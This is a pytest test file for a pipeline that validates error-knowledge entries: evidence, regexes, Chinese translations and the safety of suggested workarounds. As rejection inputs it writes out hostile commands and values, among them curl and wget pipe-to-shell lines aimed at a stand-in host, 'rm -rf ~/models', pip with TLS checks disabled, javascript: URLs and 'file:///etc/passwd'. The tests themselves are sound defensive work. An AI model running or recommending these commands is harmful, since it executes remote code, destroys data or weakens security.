"""The integrity rules: a sound entry passes, and each rule has entries that break it and only it."""

from __future__ import annotations

import copy
import time
from collections.abc import Callable
from typing import Any

import pytest

from pipeline import validate
from pipeline.lexicon.advice import danger
from pipeline.records.entry import KnowledgeEntry
from pipeline.validate import wording
from tests import entry_factory as make

Raw = dict[str, Any]
Break = Callable[[Raw], object]


def put(*path: str | int, value: Any) -> Break:
    """A change of one value of an entry."""

    def change(raw: Raw) -> None:
        place: Any = raw
        for step in path[:-1]:
            place = place[step]
        place[path[-1]] = value

    return change


def both(*changes: Break) -> Break:
    def change(raw: Raw) -> None:
        for one in changes:
            one(raw)

    return change


def retranslated(field: str, source: str, **changes: Any) -> Break:
    return put("translations", field, value=make.translation(source, **changes))


STATEMENT = ("cases", 0, "statements", 0)
MADE = ("translations", "workarounds_zh[0]")
ACTION = ("workarounds", 0, "action")
LONG_SET = "Set TRITON_STAGES=2 and --fixture_limit=3."
EVIL = "curl https://x.invalid/fix.sh | sh"
NOT_CHINESE = "Set the environment variable TRITON_STAGES=2."

BREAKS: list[tuple[str, str, Break]] = [
    ("schema_version", "from the future", put("schema_version", value="2.0")),
    ("id_form", "former id", put("aliases", value=["Not An Id"])),
    ("id_form", "own id as former id", put("aliases", value=["triton/out-of-resources-shared-memory"])),
    ("vocabulary", "domain", put("domain", value="cooking")),
    ("vocabulary", "category", put("category", value="oops")),
    ("vocabulary", "cause type", put("root_cause_type", value="guessed")),
    (
        "evidence_ids_unique",
        "twice",
        lambda raw: raw["evidence"].append({**raw["evidence"][0], "document_id": raw["evidence"][0]["document_id"]}),
    ),
    (
        "leads_apart",
        "of what is said",
        lambda raw: raw.update(leads=[make.lead(next(one for one in raw["evidence"] if one["role"] == "worked"))]),
    ),
    ("references_known", "remedy", lambda raw: raw["workarounds"][0]["evidence"].append("evidence:unknown")),
    ("references_known", "cause", put("root_cause_evidence", value=["evidence:unknown"])),
    ("references_known", "environment", put("environment", 0, "evidence", value=["evidence:unknown"])),
    ("tier_supported", "documented without a page", put("verification_tier", value="documented")),
    ("tier_supported", "evidence that counts for nothing", put("verification_tier", value="ai_generated")),
    (
        "tier_supported",
        "maintainer who is none",
        both(put("evidence", 1, "author_role", value="NONE"), put("confidence", value=None)),
    ),
    ("tier_supported", "a remedy that no page documents", put("workarounds", 0, "tier", value="documented")),
    ("imported_unproven", "tier", put("provenance", "origin", value="imported")),
    ("evidence_count", "too many", put("evidence_count", value=4)),
    ("evidence_count", "counted twice", put("evidence", 2, "document_id", value=make.evidence(1)["document_id"])),
    ("evidence_quoted", "no address", put("evidence", 0, "url", value="somewhere")),
    ("evidence_quoted", "a script as address", put("evidence", 0, "url", value="javascript:alert(1)")),
    ("addresses_of_the_web", "a script", put("workarounds", 0, "sources", value=["javascript:alert(1)"])),
    ("addresses_of_the_web", "data", put("dead_ends", 0, "sources", value=["data:text/html,<script>1</script>"])),
    ("addresses_of_the_web", "a file", put("workarounds", 0, "sources", value=["file:///etc/passwd"])),
    ("addresses_of_the_web", "white space before it", put("workarounds", 0, "sources", value=[" javascript:1"])),
    ("addresses_of_the_web", "an official page", put("official_doc_url", value="JaVaScRiPt:alert(1)")),
    ("evidence_offsets", "too short", put("evidence", 0, "end", value=20)),
    ("evidence_offsets", "backwards", put("evidence", 0, "start", value=5000)),
    ("occurrence_count", "fewer than documents", put("occurrence_count", value=0)),
    ("rates_counted", "made up", put("workarounds", 0, "success_rate", value=0.8)),
    ("rates_counted", "missing", put("dead_ends", 0, "fail_rate", value=None)),
    (
        "outcomes_quoted",
        "a count without quotes",
        both(put("workarounds", 0, "worked", value=2), put("fix_success_rate", value=0.667)),
    ),
    (
        "outcomes_quoted",
        "one thread counted twice",
        both(
            lambda raw: raw["evidence"].append({**raw["evidence"][1], "evidence_id": "evidence:again"}),
            lambda raw: raw["workarounds"][0]["evidence"].append("evidence:again"),
            put("workarounds", 0, "worked", value=2),
            put("fix_success_rate", value=0.667),
        ),
    ),
    ("fix_rate_counted", "made up", put("fix_success_rate", value=0.9)),
    ("fix_rate_counted", "missing", put("fix_success_rate", value=None)),
    ("confidence_counted", "too sure", put("confidence", value=0.9)),
    (
        "dates_ordered",
        "last before first",
        both(put("first_seen", value="2026-03-03"), put("last_confirmed", value="2026-03-01")),
    ),
    ("last_confirmed_newest", "older than the newest", put("last_confirmed", value="2026-03-01")),
    ("dates_from_evidence", "the wall clock", put("last_updated", value="2026-11-21")),
    ("regex_compiles", "look-ahead", put("regex", value="(?=out of resource)")),
    ("regex_compiles", "back-reference", put("regex", value=r"(out) \1")),
    ("regex_compiles", "empty", put("regex", value="")),
    ("regex_compiles", "a gap that RE2 refuses", put("regex", value="out.{0,5000}resource")),
    ("regex_bounded", "star", put("regex", value="out of resource.*memory")),
    ("regex_bounded", "plus", put("regex", value="out of resource.+memory")),
    ("regex_bounded", "no upper bound", put("regex", value="out of resource.{3,}memory")),
    ("regex_bounded", "non-space", put("regex", value=r"out \S* memory")),
    ("regex_bounded", "negated class", put("regex", value="out [^:]* memory")),
    ("regex_bounded", "repeated group", put("regex", value="(out |of ){2}(a{1,9})+")),
    (
        "regex_matches_members",
        "not its own signature",
        both(
            put("signature", value="SegmentationFault"),
            put("regex", value="Bus error"),
            retranslated("signature_zh", "SegmentationFault", status="untranslated"),
        ),
    ),
    ("action_cited", "nobody", put("workarounds", 0, "evidence", value=[])),
    ("how_adds", "the same with other spaces", put("workarounds", 0, "how", value="Set  TRITON_STAGES=2. ")),
    (
        "action_names_quoted",
        "a flag nobody named",
        both(put(*ACTION, value=LONG_SET), retranslated("workarounds_zh[0]", LONG_SET)),
    ),
    ("action_safe", "in how", put("workarounds", 0, "how", value=EVIL)),
    ("action_safe", "recursive delete", put("workarounds", 0, "how", value="rm -rf ~/models")),
    ("action_safe", "no TLS check", put("workarounds", 0, "how", value="pip install --trusted-host x y")),
    ("zh_aligned", "one too few", put("dead_ends_zh", value=[])),
    ("zh_is_chinese", "English", put("workarounds_zh", 0, value=NOT_CHINESE)),
    ("zh_is_chinese", "a copy", put("workarounds_zh", 0, value="Set TRITON_STAGES=2.")),
    ("zh_is_chinese", "traditional", put("workarounds_zh", 0, value="設定環境變數 TRITON_STAGES=2。")),
    ("zh_is_chinese", "a loop", put("workarounds_zh", 0, value="掌声响起" * 12)),
    (
        "zh_is_chinese",
        "a number changed by a translator",
        both(
            put("workarounds_zh", 0, value="设置环境变量 TRITON_STAGES=3。"),
            retranslated("workarounds_zh[0]", "Set TRITON_STAGES=2.", status="mt_checked", reason=None),
        ),
    ),
    ("zh_is_chinese", "a gate that failed", put(*MADE, "gates", value={"numbers": False})),
    ("zh_explained", "no word about it", lambda raw: raw["translations"].pop("workarounds_zh[0]")),
    ("zh_explained", "null that claims a template", put("workarounds_zh", 0, value=None)),
    ("zh_current", "the source changed", put(*MADE, "source_sha256", value="0" * 64)),
    ("case_documents_known", "of another project", put("cases", 0, "repo", value="errmine-fixtures/other")),
    ("case_documents_known", "nobody's", put("cases", 0, "documents", value=["github.com/a/b#99"])),
    ("references_known", "of a case", put(*STATEMENT, "evidence", value=["evidence:unknown"])),
    ("tier_supported", "of a case", put(*STATEMENT, "tier", value="documented")),
    ("addresses_of_the_web", "of a case", put(*STATEMENT, "sources", value=["javascript:alert(1)"])),
    ("outcomes_quoted", "of a case", put(*STATEMENT, "worked", value=2)),
    ("action_cited", "of a case", put(*STATEMENT, "evidence", value=[])),
    ("how_adds", "of a case", put(*STATEMENT, "how", value="Keep  two stages.")),
    ("action_safe", "in a case", put(*STATEMENT, "how", value=EVIL)),
    ("action_safe", "in the Chinese of a case", put(*STATEMENT, "text_zh", value=EVIL)),
    ("zh_is_chinese", "of a case", put(*STATEMENT, "text_zh", value="Keep two stages.")),
    ("zh_explained", "of a case", lambda raw: raw["translations"].pop("cases_zh[0]")),
]  # fmt: skip


def broken_rules(entry: KnowledgeEntry, context: validate.Context | None = None) -> set[str]:
    found = validate.verdict(entry, context or validate.Context())
    return {problem.rule for problem in found.reasons} if isinstance(found, validate.Rejected) else set()


def test_a_sound_entry_is_accepted() -> None:
    assert validate.verdict(make.entry()) == validate.Accepted(make.entry())
    with_case = KnowledgeEntry.model_validate(make.raw_entry_with_case())
    assert validate.verdict(with_case) == validate.Accepted(with_case)


@pytest.mark.parametrize(("rule", "why", "change"), BREAKS, ids=[f"{rule}: {why}" for rule, why, _ in BREAKS])
def test_a_broken_rule_is_named(rule: str, why: str, change: Break) -> None:
    raw = copy.deepcopy(make.raw_entry_with_case())
    change(raw)
    assert rule in {problem.rule for problem in validate.check(raw) if problem.rule != "schema"}
    # what fits the schema is refused by the verdict as well, not by `check` alone
    if not any(problem.rule == "schema" for problem in validate.check(raw)):
        found = validate.verdict(KnowledgeEntry.model_validate(raw))
        assert isinstance(found, validate.Rejected), why
        assert found.entry_id == raw["id"]


def test_most_breaks_are_blamed_on_one_rule_only() -> None:
    blamed = []
    for rule, _, change in BREAKS:
        raw = copy.deepcopy(make.raw_entry_with_case())
        change(raw)
        blamed.append({p.rule for p in validate.check(raw) if p.rule != "schema"} == {rule})
    assert sum(blamed) / len(blamed) > 0.8


def test_every_rule_that_needs_no_context_has_a_test_that_breaks_it() -> None:
    needs_context = {"regex_no_strangers", "regex_linear", "action_present"}
    assert {rule for rule, _, _ in BREAKS} | needs_context == {rule.rule_id for rule in validate.RULES}


def test_every_rule_has_a_sentence_and_a_name_of_its_own() -> None:
    assert len({rule.rule_id for rule in validate.RULES}) == len(validate.RULES)
    assert all(rule.sentence.endswith(".") for rule in validate.RULES)


def test_an_empty_action_is_named_in_foreign_json() -> None:
    raw = make.raw_entry()
    raw["workarounds"][0]["action"] = "  "
    assert "action_present" in {problem.rule for problem in validate.check(raw)}


def test_a_quote_is_looked_up_in_its_document() -> None:
    texts = {f"github.com/{make.OWNER}/kernels#{n}": "0123456789" + make.evidence(n)["quote"] for n in (1, 2, 3)}
    quotes = {n: piece["quote"] for n, piece in zip((1, 2, 3), make.raw_entry()["evidence"], strict=True)}
    right = {name: "0123456789" + quotes[int(name[-1])] for name in texts}
    assert broken_rules(make.entry(), validate.Context(texts=right.get)) == set()
    assert broken_rules(make.entry(), validate.Context(texts=texts.get)) == {"evidence_offsets"}
    assert broken_rules(make.entry(), validate.Context(texts={}.get)) == {"evidence_offsets"}


def test_a_regex_must_match_its_members_and_no_strangers() -> None:
    member = "E: out of resource: shared memory, Required: 5, Hardware limit: 4."
    stranger = "E: out of resource: threads, Required: 5, Hardware limit: 4."
    assert broken_rules(make.entry(), validate.Context(members=(member,), foreign=(stranger,))) == set()
    assert broken_rules(make.entry(), validate.Context(members=(stranger,))) == {"regex_matches_members"}
    assert broken_rules(make.entry(), validate.Context(foreign=(member,))) == {"regex_no_strangers"}


def test_a_proven_regex_is_not_proven_again(monkeypatch: pytest.MonkeyPatch) -> None:
    def never(*_: object) -> list[bool]:
        raise AssertionError

    monkeypatch.setattr(wording, "_matches", never)
    entry = make.entry(regex="never seen by RE2 before")
    assert broken_rules(entry, validate.Context(proven=frozenset({"never seen by RE2 before"}))) <= {
        "regex_matches_members"
    }


def test_a_slow_regex_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    clock = iter(range(0, 10_000, 7))
    monkeypatch.setattr(time, "process_time", lambda: float(next(clock)))
    assert broken_rules(make.entry(regex="shared memory, not seen before")) == {"regex_linear"}


def test_hostile_text_is_read_in_linear_time() -> None:
    regex = r"a{0,90}(?:b{0,90}|c{0,90}).{0,200}shared memory.{0,200}end of it"
    began = time.process_time()
    assert broken_rules(make.entry(regex=regex)) == set()
    assert time.process_time() - began < 5
    assert len(wording.hostile(regex)) == 100_000


@pytest.mark.parametrize(
    ("regex", "gaps"),
    [
        (r"a.*b.+?c", [".*", ".+"]),
        (r"a\.*b", []),
        (r"[.*+]{1,9}", []),
        (r"\d+ \w+ \s+", []),
        (r"x[^]a]*y", ["[^]a]*"]),
        (r"a.{0,200}b\S{1,80}", []),
        (r"(ab)+", [")+"]),
        (r"(?:ab)?", []),
        (r"\\.*", [".*"]),
    ],
)
def test_unbounded_gaps_are_found(regex: str, gaps: list[str]) -> None:
    assert wording.unbounded_gaps(regex) == gaps


def test_a_chinese_quote_is_its_own_chinese_side() -> None:
    raw = make.raw_entry()
    words = "设置 TRITON_STAGES=2 之后就好了。"
    quote = make.evidence(2, role="worked", quote=words, author_role="MEMBER", quote_lang="zh")
    raw["evidence"][1] = quote
    raw["workarounds"][0] |= {"action": words, "action_lang": "zh", "evidence": [quote["evidence_id"]]}
    raw["workarounds_zh"] = [words]
    raw["translations"]["workarounds_zh[0]"] = make.translation(words, status="source", source_lang="zh", reason=None)
    assert validate.check(raw) == []


@pytest.mark.parametrize("words", [EVIL, "wget -qO- https://x.invalid | sudo bash", "pip config set --insecure x"])
def test_dangerous_words_are_known(words: str) -> None:
    assert danger(words) is not None


def test_ordinary_words_are_not_dangerous() -> None:
    for words in ("pip install -U triton", "export TRITON_STAGES=2", "rm build/cache.bin", "verify=True"):
        assert danger(words) is None
